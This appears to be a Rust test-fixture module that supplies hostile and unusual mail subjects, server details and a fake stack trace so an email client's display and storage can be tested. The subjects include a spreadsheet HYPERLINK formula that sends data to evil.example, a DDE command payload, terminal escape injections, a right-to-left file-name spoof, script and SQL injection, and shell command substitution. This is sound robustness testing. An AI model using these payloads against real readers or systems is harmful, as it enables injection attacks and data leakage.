//! Hostile and unusual texts: mail subjects as people write them, and attacks on readers of reports.
//! A client shows or stores every one of them somewhere.

/// Subjects of mail, which events and reasons use in turn.
pub(crate) const SUBJECTS: &[&str] = &[
    "Quarterly report",
    "Re: \"final\", really \"final\" figures, 'v2'",
    "Two lines\nof one subject\r\nand a third",
    "Tab\tseparated\tvalues",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{645}\u{631}\u{62d}\u{628}\u{627} mixed with left-to-right",
    "Zalgo: Z\u{351}\u{36b}\u{343}a\u{329}\u{346}l\u{34a}\u{340}g\u{317}o\u{321}, cafe\u{301}",
    "invoice_\u{202e}fdp.exe",
    "Family \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466} and a flag \u{1f3f3}\u{fe0f}\u{200d}\u{1f308}",
    "\u{1b}[31mRED ALERT\u{1b}[0m, still red?",
    "\u{1b}]0;owned\u{7}title of your terminal",
    "C1 control: \u{9b}31m eight bits",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1 for lunch",
    "-1 from me",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    LONG,
    "\u{fffd}\u{feff}zero\u{200b}width\u{2028}line",
    "   leading and trailing spaces   ",
    "null",
    "<script>alert(1)</script> & <b>bold</b>",
    "\u{4f1a}\u{8bae}\u{7eaa}\u{8981} \u{30d0}\u{30c3}\u{30af}\u{30a2}\u{30c3}\u{30d7} \u{bc31}\u{c5c5}",
    "Robert'); DROP TABLE items;--",
    "100% %s %n {0} {} $HOME `id` $(id)",
];

/// 300 characters.
const LONG: &str = "A subject of three hundred characters goes on and on and on and on and on and on and on \
and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and \
on and on and on and on and on and on and on and on and on and on and on and on and on, and ended here.";

/// Details that servers give about a result.
const DETAILS: [&str; 3] = [
    "Some items were skipped, see the events",
    "Mailbox \"ana@contoso.example\" is over its quota;\nnext try in 00:05:00",
    "Connection lost\tafter 3 retries",
];

/// Returns the subject with a number; numbers wrap around.
pub(crate) fn subject(number: usize) -> &'static str {
    SUBJECTS.get(number % SUBJECTS.len()).copied().unwrap_or_default()
}

/// Returns the scope and the reason of the initial session with a number; every sixth was opened
/// through the Restore Portal.
pub(crate) fn portal_scope(number: u32) -> Option<(&'static str, &'static str)> {
    let turn = usize::try_from(number / 6).unwrap_or(0);
    let scopes = ["Ana P\u{e9}rez", "Finance, all of it", "https://contoso.example/sites/hr"];
    (number % 6 == 2).then(|| (scopes[turn % scopes.len()], subject(turn)))
}

/// Returns the details of the initial session with a number; every fifth has some.
pub(crate) fn session_details(number: u32) -> Option<&'static str> {
    let turn = usize::try_from(number / 5).unwrap_or(0);
    (number % 5 == 3).then(|| DETAILS[turn % DETAILS.len()])
}

/// The made-up `stackTrace` of a server error in v8.
pub(crate) const TRACE: &str = "\
System.InvalidOperationException: the simulated server was told to fail\r\n   \
at Simulated.Rest.Controllers.SandboxController.Fail(Guid id) in C:/simulated/SandboxController.cs:line 365\r\n   \
at Simulated.Rest.Filters.TraceFilter.OnActionExecutionAsync(ActionContext context, Func`1 next)\r\n\
--- End of stack trace from previous location ---\r\n   \
at Simulated.Rest.Pipeline.InvokeInnerAsync[TResult](Func`1 action, CancellationToken token)\r\n   \
at System.Threading.Tasks.Task.Simulate()\r\n";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_kind_of_hostile_text_is_included() {
        let all = SUBJECTS.concat();
        for character in
            ['"', ',', '\n', '\t', '\u{202e}', '\u{200d}', '\u{1b}', '\u{9b}', '\u{301}']
        {
            assert!(all.contains(character), "{character:?}");
        }
        for start in ["=HYPERLINK", "+1", "-1", "@SUM"] {
            assert!(SUBJECTS.iter().any(|subject| subject.starts_with(start)), "{start}");
        }
        assert!(all.contains("\u{1b}]0;") && all.contains("\u{1b}[31m"));
        assert_eq!(LONG.chars().count(), 300);
    }
}
